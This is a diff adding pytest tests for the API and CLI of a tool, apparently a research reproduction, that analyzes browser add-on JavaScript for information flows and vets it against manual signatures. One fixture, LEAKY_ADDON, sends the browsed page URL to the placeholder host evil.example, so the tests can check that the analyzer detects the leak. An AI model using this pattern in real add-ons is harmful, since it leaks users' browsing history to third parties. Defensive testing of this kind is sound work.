@@ -1,0 +1,94 @@
+"""Tests for the public API facade and the CLI."""
+
+import pytest
+
+from repro import api
+from repro.cli import build_parser, main
+from repro.signatures import Verdict, parse_signature
+
+SIMPLE_ADDON = """
+var xhr = new XMLHttpRequest();
+xhr.open("GET", "https://feed.example/items", true);
+xhr.send(null);
+"""
+
+LEAKY_ADDON = """
+var xhr = new XMLHttpRequest();
+xhr.open("GET", "https://evil.example/?u=" + content.location.href, true);
+xhr.send(null);
+"""
+
+
+class TestApi:
+    def test_infer_signature_convenience(self):
+        signature = api.infer_signature(SIMPLE_ADDON)
+        assert "feed.example" in signature.render()
+
+    def test_vet_returns_full_report(self):
+        report = api.vet(LEAKY_ADDON)
+        assert report.ast_nodes > 10
+        assert report.pdg.edges
+        assert report.signature.flows
+
+    def test_vet_with_manual_comparison(self):
+        manual = parse_signature("send(https://feed.example/items)")
+        report = api.vet(SIMPLE_ADDON, manual=manual)
+        assert report.comparison.verdict is Verdict.PASS
+
+    def test_vet_render_mentions_signature(self):
+        report = api.vet(LEAKY_ADDON)
+        text = report.render()
+        assert "AST nodes" in text and "evil.example" in text
+
+    def test_three_phase_api(self):
+        program, result = api.analyze_addon(LEAKY_ADDON)
+        pdg = api.build_addon_pdg(result)
+        detail = api.infer_addon_signature(result, pdg)
+        assert detail.signature.flows
+
+    def test_unknown_calls_surfaced(self):
+        report = api.vet("totallyUnknownApi(1);")
+        assert report.unknown_calls
+
+
+class TestCli:
+    def test_parser_subcommands(self):
+        parser = build_parser()
+        arguments = parser.parse_args(["analyze", "file.js"])
+        assert arguments.command == "analyze"
+
+    def test_analyze_command(self, tmp_path, capsys):
+        addon = tmp_path / "addon.js"
+        addon.write_text(LEAKY_ADDON)
+        assert main(["analyze", str(addon)]) == 0
+        output = capsys.readouterr().out
+        assert "url -type1-> send(https://evil.example/?u=...)" in output
+
+    def test_analyze_with_manual(self, tmp_path, capsys):
+        addon = tmp_path / "addon.js"
+        addon.write_text(SIMPLE_ADDON)
+        manual = tmp_path / "manual.sig"
+        manual.write_text("send(https://feed.example/items)\n")
+        assert main(["analyze", str(addon), "--manual", str(manual)]) == 0
+        assert "verdict: pass" in capsys.readouterr().out
+
+    def test_analyze_with_dot_export(self, tmp_path, capsys):
+        addon = tmp_path / "addon.js"
+        addon.write_text(SIMPLE_ADDON)
+        dot = tmp_path / "pdg.dot"
+        assert main(["analyze", str(addon), "--dot", str(dot)]) == 0
+        assert dot.read_text().startswith("digraph")
+
+    def test_table1_command(self, capsys):
+        assert main(["table1"]) == 0
+        assert "LivePagerank" in capsys.readouterr().out
+
+    def test_figures_command(self, capsys):
+        assert main(["figures"]) == 0
+        output = capsys.readouterr().out
+        assert "Figure 2" in output and "Figure 4" in output
+
+    def test_report_command_listed(self):
+        parser = build_parser()
+        arguments = parser.parse_args(["report", "--runs", "2"])
+        assert arguments.command == "report" and arguments.runs == 2
